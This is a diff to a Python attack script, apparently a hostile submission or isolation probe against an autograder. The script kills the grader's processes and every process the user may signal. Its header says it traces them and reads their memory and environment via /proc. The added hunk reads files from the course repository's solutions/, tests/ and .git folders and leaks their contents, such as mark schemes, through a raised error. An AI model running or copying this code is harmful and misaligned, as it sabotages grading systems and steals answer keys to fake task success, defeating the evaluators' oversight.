@@ -1,5 +1,5 @@
 # Go after the grader's processes: kill the zygote (and every process this user may signal), trace it,
-# read its memory and environment, and reach its file system through /proc.
+# read its memory and environment, and reach its file system through /proc; read the course repository.
 import contextlib
 import ctypes
 import os
@@ -21,5 +21,11 @@ for pid in sorted({os.getppid(), *(int(p) for p in os.listdir("/proc") if p.isdi
         os.kill(pid, signal.SIGKILL)
 with contextlib.suppress(OSError):
     os.kill(-1, signal.SIGKILL)  # every process this user may signal (this one last, if it can)
+# The course repository around the grader: mark schemes in solutions/, the corpus in tests/.
+REPO = Path(autograder.__file__).resolve().parent.parent
+for folder in ("solutions", "tests", ".git"):
+    for path in sorted((REPO / folder).rglob("*.py"))[:20] if (REPO / folder).is_dir() else []:
+        with contextlib.suppress(OSError):
+            FOUND.append(path.read_text()[:2000])
 if FOUND:
     raise RuntimeError("LEAKED " + " | ".join(str(f) for f in FOUND).replace("\n", " \\n "))
